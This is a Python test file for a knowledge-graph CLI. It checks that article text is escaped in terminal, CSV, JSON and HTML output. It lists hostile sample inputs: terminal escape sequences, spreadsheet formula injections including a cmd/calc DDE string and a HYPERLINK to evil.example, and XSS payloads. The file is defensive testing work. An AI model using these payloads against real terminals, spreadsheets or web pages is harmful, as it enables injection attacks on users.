"""Text from articles is data in every output (issue 12.2): never Rich markup, never raw terminal control,
never a live spreadsheet formula, never HTML; machine formats exact. Cases first, then a property test.

`make test` runs 450 hypothesis examples here; `KG_FUZZ_SCALE=20 python -m pytest tests/test_output.py`
twenty times as many.
"""
from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyoxigraph import Literal, Quad, RdfFormat
from typer.testing import CliRunner

from kg import cli, cli_output
from kg.builder import BuildReport
from kg.display import DataConsole, csv_text, json_text, message, spreadsheet_cell, visible
from kg.graph.query import QueryResult
from kg.report import EventItem, ReportPlace, ReportRow, Source, render
from kg.graph.store import open_store

ROOT = Path(__file__).resolve().parents[1]
SCALE = int(os.environ.get("KG_FUZZ_SCALE", "1"))
runner = CliRunner()
# What may never reach a terminal raw: C0 but line feed, DEL, C1, bidi controls, separators, lone surrogates.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
SURROGATE = re.compile("[\ud800-\udfff]")
MARKUP = ["[government]", "[sic]", "[/i]", "[/]", "[bold red]x[/bold red]", "[link=https://evil.example/]y",
          ":warning:", "[", "]", "\\[/]"]
CONTROLS = {"\x1b[31m": "\\x1b[31m", "\x1b]8;;https://evil.example/\x07": "\\x1b]8;;https://evil.example/\\x07",
            "\x1b]0;title\x07": "\\x1b]0;title\\x07", "\x1b[2J": "\\x1b[2J", "\x08": "\\x08", "\r": "\\r",
            "\t": "\\t", "\x00": "\\x00", "\x7f": "\\x7f", "\x9b31m": "\\x9b31m", "\x85": "\\x85",
            "\u202e": "\\u202e", "\u2066": "\\u2066", "\u2069": "\\u2069", "\u2028": "\\u2028", "\ud800": "\\ud800"}
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1", "\r=1", "\n=1", "\x00=1"]


def fuzz(n: int):
    return settings(max_examples=n * SCALE, deadline=None, derandomize=SCALE == 1,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


def _shown(result: QueryResult, fmt: str, *, width: int = 100_000) -> str:
    """What `print_result` writes to standard output, with a console as wide as the test needs."""
    buffer = io.StringIO()
    console = type(cli_output.out)(file=buffer, soft_wrap=True, width=width)  # the CLI's own console class
    saved, cli_output.out = cli_output.out, console
    try:
        with contextlib.redirect_stdout(buffer):
            cli_output.print_result(result, fmt)
    finally:
        cli_output.out = saved
    return buffer.getvalue()


def _said(text: str) -> str:
    """What a DataConsole prints for ``message("warning:", ..., text)``."""
    buffer = io.StringIO()
    type(cli.err)(file=buffer, soft_wrap=True, width=100_000).print(message("warning:", "yellow", text))
    return buffer.getvalue()


def _table(*values: str) -> QueryResult:
    return QueryResult(("evidence", "file", "n"), tuple((v, "a.txt", "1") for v in values))


def _records(*values: str) -> QueryResult:
    columns = ("event", "date", "publisher", "headline", "file", "evidence")
    return QueryResult(columns, tuple(tuple(v for _ in columns) for v in values))


# ---------------------------------------------------------------- Rich markup is text


@pytest.mark.parametrize("fmt,result", [("table", _table), ("table", _records)])
@pytest.mark.parametrize("text", MARKUP)
def test_markup_in_article_text_is_shown_as_written(fmt: str, result, text: str) -> None:
    quote = f"The {text} said the city fell"
    shown = _shown(result(quote), fmt)
    assert quote in shown


def test_bracketed_words_stay_in_quotes() -> None:
    quote = "A [government] spokesman said the town was 'retaken [sic]'"
    for shown in (_shown(_table(quote), "table"), _shown(_records(quote), "table"), _said(quote)):
        assert "[government]" in shown and "[sic]" in shown


# ---------------------------------------------------------------- control characters are shown, not sent


@pytest.mark.parametrize("raw,escaped", CONTROLS.items())
def test_control_characters_are_made_visible(raw: str, escaped: str) -> None:
    text = f"before {raw} after"
    for shown in (_shown(_table(text), "table"), _shown(_records(text), "table"), _said(text)):
        assert not RAW.search(shown), repr(shown)
        assert f"before {escaped} after" in shown


def test_printable_text_and_backslashes_are_unchanged() -> None:
    text = "C:\\news\\a.txt says \\x1b is ESC; «Ünïcødé» 🚀 كابل"
    assert visible(text) == text
    assert text in _shown(_table(text), "table")


def test_a_line_break_cannot_forge_a_line() -> None:
    said = _said("bad date\nerror: the store is damaged")
    assert said == "warning: bad date\\nerror: the store is damaged\n"
    shown = _shown(_records("fell\n    date  2099-01-01"), "table")
    assert "\n    date  2099" not in shown  # continuation lines are indented past the labels
    assert re.search(r"\n {11}    date  2099-01-01", shown)


def test_text_built_elsewhere_is_escaped_by_the_console() -> None:
    from rich.text import Text

    buffer = io.StringIO()
    DataConsole(file=buffer, force_terminal=True).print(Text("x\x1b]8;;https://evil.example/\x1b\\y"))
    assert "\x1b]8" not in buffer.getvalue() and "x\\x1b]8;;https://evil.example/\\x1b\\y" in buffer.getvalue()


def test_any_string_the_cli_consoles_print_is_data() -> None:
    """A future `out.print(f"... {value}")` is safe too: the consoles, not each command, escape."""
    for console in (cli.out, cli.err):
        buffer = io.StringIO()
        type(console)(file=buffer, force_terminal=True).print("[/] [red]x :warning: \x1b[2J\u202e", "[/i]")
        assert buffer.getvalue().startswith("[/] [red]x :warning: ")
        assert "\x1b[2J" not in buffer.getvalue() and "[/i]\n" in buffer.getvalue()


def test_no_rich_markup_in_cli_code() -> None:
    """The CLI's consoles never parse markup, so a '[red]...[/red]' literal would print as it is written."""
    source = (ROOT / "kg" / "cli.py").read_text(encoding="utf-8")
    tags = re.findall(r"\[/?(?:red|yellow|green|blue|cyan|magenta|bold|dim|italic|link)\b[^\]]*\]|\[/\]", source)
    assert tags == [], f"use kg.display.message / Text styles instead of markup: {tags}"


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_for_spreadsheets_neutralises_formulas(formula: str) -> None:
    rows = list(csv.reader(io.StringIO(_shown(_table(formula), "csv"), newline="")))
    assert rows[1][0] == "'" + formula
    exact = list(csv.reader(io.StringIO(_shown(_table(formula), "csv-exact"), newline="")))
    assert exact[1][0] == formula


@pytest.mark.parametrize("value", ["-33.95", "+5", "1e5", "-0.5e-3", "2021-08-06", "Kabul", "", "'quoted", "a=b"])
def test_csv_for_spreadsheets_leaves_numbers_and_text_exact(value: str) -> None:
    assert spreadsheet_cell(value) == value


def test_csv_on_a_terminal_shows_controls_and_in_a_pipe_is_exact() -> None:
    result = _table("red \x1b[31m\u202e")
    assert "\x1b" not in csv_text(result, spreadsheet=True, terminal=True)
    assert "\\x1b[31m\\u202e" in csv_text(result, spreadsheet=False, terminal=True)
    assert "red \x1b[31m\u202e" in csv_text(result, spreadsheet=False, terminal=False)


def test_unknown_format_names_the_csv_choices() -> None:
    with pytest.raises(Exception, match="csv-exact"):
        _shown(_table("x"), "xls")


# ---------------------------------------------------------------- JSON


def test_json_is_exact_and_escapes_what_terminals_act_on() -> None:
    value = "".join(c for c in CONTROLS if c != "\ud800") + "".join(MARKUP)  # RDF literals hold no surrogates
    text = _shown(_table(value), "json")
    assert not RAW.search(text.replace("\n", ""))
    assert json.loads(text)["results"]["bindings"][0]["evidence"]["value"] == value
    assert json_text('"\u2028\u0085"') == '"\\u2028\\u0085"'


# ---------------------------------------------------------------- HTML report


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag + "".join(sorted(f" {k}" for k, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _page(value: str) -> tuple[_Page, str]:
    source = Source("https://w3id.org/newskg/id/article/A1", "https://news.example/" + value, value, value)
    report = ReportRow(value, value, "asserted", value, value, source)
    event = EventItem("https://w3id.org/newskg/id/event/capture/x/2021-08-06", "capture", value, "p", value,
                      "2021-08-06", value, (report,))
    page = render([event], [ReportPlace("p", value, 31.0, 62.0)])
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser, page


ALLOWED_TAGS = set(_page('they said "x"')[0].tags)
HOSTILE_HTML = ['</script><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='x",
                "</title></svg><iframe src=//evil.example>", "<!-- x", "&amp; &lt;", "]]>"]


@pytest.mark.parametrize("value", HOSTILE_HTML)
def test_report_escapes_article_text_in_text_and_attributes(value: str) -> None:
    parser, page = _page(value)
    assert parser.tags == _page("x")[0].tags  # no element or attribute came from the data
    assert "<script" not in page and "<iframe" not in page and "<img" not in page
    assert value in "".join(parser.text)


def test_report_shows_controls_and_survives_lone_surrogates(tmp_path: Path) -> None:
    _, page = _page("a\x1b[31m\u202e\ud800b")
    assert "a\\x1b[31m\\u202e\\ud800b" in page
    (tmp_path / "r.html").write_text(page, encoding="utf-8")  # would raise on a raw surrogate


# ---------------------------------------------------------------- the property


_HOSTILE = st.sampled_from([*MARKUP, *CONTROLS, *FORMULAS, *HOSTILE_HTML, "\n", "\\x1b", "\\", '"', ","])
_ANY_CHAR = st.characters(exclude_categories=())  # surrogates and every control included
_VALUE = st.lists(st.one_of(_HOSTILE, st.text(max_size=12), st.text(_ANY_CHAR, max_size=6)), max_size=6).map("".join)


def _lines_of(value: str) -> list[str]:
    return [line for line in visible(value).split("\n") if line.strip()]


@fuzz(150)
@given(evidence=_VALUE, file=_VALUE, publisher=_VALUE, headline=_VALUE, date=_VALUE)
def test_any_article_text_comes_out_unchanged_or_visibly_escaped(evidence: str, file: str, publisher: str,
                                                                 headline: str, date: str) -> None:
    values = (evidence, file, publisher, headline, date)
    narrow = QueryResult(("evidence", "file", "publisher", "headline", "date"), (values,))
    wide = QueryResult(("event", *narrow.columns, "article"), (("e", *values, "a"),))
    for result in (narrow, wide):
        shown = _shown(result, "table")
        assert not RAW.search(shown)
        for value in values:
            for line in _lines_of(value):
                assert line.strip() in shown
        csv_rows = list(csv.reader(io.StringIO(_shown(result, "csv-exact"), newline="")))
        assert tuple(csv_rows[1]) == result.rows[0]
        sheet_rows = list(csv.reader(io.StringIO(_shown(result, "csv"), newline="")))
        for got, value in zip(sheet_rows[1], result.rows[0], strict=True):
            assert got == value or (got == "'" + value and value[:1] in "=+-@\t\r\n\0")
        if not SURROGATE.search("".join(values)):  # a store cannot hold them: pyoxigraph literals are UTF-8
            document = _shown(result, "json")
            assert not RAW.search(document.replace("\n", ""))
            bindings = json.loads(document)["results"]["bindings"][0]
            assert tuple(bindings[c]["value"] for c in result.columns) == result.rows[0]
    for value in values:
        said = _said(value)
        assert said.count("\n") == 1 and not RAW.search(said) and visible(value, newlines=False) in said


@fuzz(150)
@given(value=_VALUE)
def test_any_article_text_is_escaped_in_the_report(value: str) -> None:
    parser, page = _page(value)
    assert set(parser.tags) <= ALLOWED_TAGS  # quoted speech adds <mark>, empty values drop theirs; nothing else
    assert visible(value) in "".join(parser.text)
    page.encode("utf-8")


@fuzz(150)
@given(value=st.text(st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")), max_size=40))
def test_printable_text_is_shown_unchanged(value: str) -> None:
    if not RAW.search(value):
        assert visible(value) == value
        assert all(line.strip() in _shown(_table(value), "table") for line in value.split("\n") if line.strip())


# ---------------------------------------------------------------- through the kg command


@pytest.fixture()
def hostile_store(tmp_path: Path) -> Path:
    """The query fixture with hostile evidence, publisher, headline and file name."""
    path = tmp_path / "store"
    with open_store(path) as kgs:
        kgs.store.load(path=str(ROOT / "tests" / "cases" / "query_fixture.trig"), format=RdfFormat.TRIG)
        swap = {"The city of Zaranj was the first regional capital to fall on Friday":
                    "A [government] source said [/i] Zaranj fell [sic] \x1b]8;;https://evil.example/\x07here",
                "BBC News": "=HYPERLINK(\"https://evil.example/\")[/]", "000_a1.txt": "[/]\x1b[2J.txt"}
        for quad in list(kgs.store):
            if isinstance(quad.object, Literal) and quad.object.value in swap:
                kgs.store.remove(quad)
                kgs.store.add(Quad(quad.subject, quad.predicate, Literal(swap[quad.object.value]), quad.graph_name))
    return path


def test_kg_query_prints_hostile_text_as_data(hostile_store: Path) -> None:
    args = ["query", "capitals-fallen", "-p", "date=2021-08-06", "--store", str(hostile_store)]
    shown = runner.invoke(cli.app, args)
    assert shown.exit_code == 0, shown.output
    assert "A [government] source said [/i] Zaranj fell [sic] \\x1b]8;;https://evil.example/\\x07here" in shown.stdout
    assert not RAW.search(shown.stdout)
    sheet = runner.invoke(cli.app, [*args, "-f", "csv"])
    assert sheet.exit_code == 0 and "'=HYPERLINK(\"\"https://evil.example/\"\")[/]" in sheet.stdout
    exact = runner.invoke(cli.app, [*args, "-f", "json"])
    values = [b["publisher"]["value"] for b in json.loads(exact.stdout)["results"]["bindings"]]
    assert "=HYPERLINK(\"https://evil.example/\")[/]" in values
    asked = runner.invoke(cli.app, ["ask", "which capitals fell on 6 August 2021", "--store", str(hostile_store)])
    assert asked.exit_code == 0, asked.output
    assert "[government]" in asked.stdout and "[sic]" in asked.stdout and not RAW.search(asked.stdout)
    records = runner.invoke(cli.app, ["query", "events", "--store", str(hostile_store)])
    assert records.exit_code == 0 and "[/]\\x1b[2J.txt" in records.stdout and not RAW.search(records.stdout)


def test_kg_build_warnings_with_markup_and_controls(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`[/]` in a date or file name crashed `kg build` after the store was written."""
    report = BuildReport(built=["[/].txt"], warnings=["x[/].txt: date_published '[/]\x1b[2J' is not a date"],
                         failed=["[/i]\rerror.txt: cannot read"])
    monkeypatch.setattr(sys.modules["kg.builder"], "build", lambda *a, **k: report)  # kg.build is also a function
    (tmp_path / "a.txt").write_text("x", encoding="utf-8")
    result = runner.invoke(cli.app, ["build", str(tmp_path / "a.txt"), "--store", str(tmp_path / "store")])
    assert result.exit_code == 2, result.output
    assert "warning: x[/].txt: date_published '[/]\\x1b[2J' is not a date" in result.stderr
    assert "error: [/i]\\rerror.txt: cannot read" in result.stderr
    assert not RAW.search(result.stderr)


@pytest.fixture()
def hostile_rdf(tmp_path: Path) -> Path:
    """The valid article with a quote SHACL refuses (typed as a date) that holds markup and controls."""
    text = (ROOT / "tests" / "cases" / "valid_article.trig").read_text(encoding="utf-8")
    start = text.index('oa:exact "')
    end = text.index('" .', start)
    path = tmp_path / "bad[sic][i].trig"
    path.write_text(text[:start] + 'oa:exact "[/i] \\u001b]0;pwned\\u0007 \\u202eevil"^^xsd:date' + text[end + 1:],
                    encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["text", "json", "junit"])
def test_kg_validate_reports_hostile_values_as_data(hostile_rdf: Path, fmt: str) -> None:
    from xml.etree import ElementTree as ET

    result = runner.invoke(cli.app, ["validate", "--data", str(hostile_rdf), "-f", fmt])
    assert result.exit_code == 1, result.output
    assert not RAW.search(result.stdout.replace("\n", ""))
    value = "[/i] \x1b]0;pwned\x07 \u202eevil"
    if fmt == "text":
        assert visible(value) in result.stdout and "bad[sic][i].trig" in result.stdout
    elif fmt == "json":
        values = [v["value"] for f in json.loads(result.stdout)["files"] for v in f["violations"]]
        assert any(v is not None and value in v for v in values)  # exact, after JSON decoding
    else:
        messages = [f.text or "" for f in ET.fromstring(result.stdout.encode("utf-8")).iter("failure")]
        assert any("[/i] \\x1b]0;pwned\\x07 \u202eevil" in m for m in messages)  # XML 1.0 cannot carry ESC, BEL
